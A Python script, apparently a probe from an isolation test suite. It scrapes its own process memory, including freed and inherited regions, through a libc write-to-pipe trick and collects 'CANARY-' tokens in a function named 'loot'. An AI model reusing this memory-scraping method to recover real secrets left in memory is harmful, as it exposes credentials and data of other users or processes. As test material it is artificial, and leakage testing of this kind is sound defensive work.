"""Search all of the own memory, freed parts too, without /proc: the kernel says what is mapped.

stopped by: boundary
peers: through
"""

import ctypes
import gc
import os
import re
import time

gc.unfreeze()  # or what the zygote made is not listed

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.sbrk.restype = ctypes.c_void_p
LIBC.write.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
STEP = 1 << 16


def pieces(address, into, out):
    """What lies from there on, until nothing does; an unmapped address is an error, no crash."""
    while True:
        written = LIBC.write(into, address, STEP)
        if written <= 0:
            return
        yield os.read(out, written)
        address += written


def starts():
    yield LIBC.sbrk(0) - (32 << 20)
    top = LIBC.sbrk(0)
    for back in range(1, 64):
        yield top - back * STEP
    spots = {id(thing) >> 20 for thing in gc.get_objects()}
    spots |= {id(inner) >> 20 for spot in gc.get_objects()[::7] for inner in gc.get_referents(spot)}
    for spot in sorted(spots, reverse=True):
        yield spot << 20


def loot(places):
    found, done, end = set(), set(), time.monotonic() + 1.3
    out, into = os.pipe()
    try:
        for start in starts():
            address, tail = start, b""
            for data in pieces(start, into, out):
                if address in done or time.monotonic() > end:
                    break
                done.add(address)
                address += len(data)
                found.update(re.findall(rb"CANARY-\w+-\w{6}", tail + data))
                tail = data[-64:]
    finally:
        os.close(out)
        os.close(into)
    return b" ".join(found)
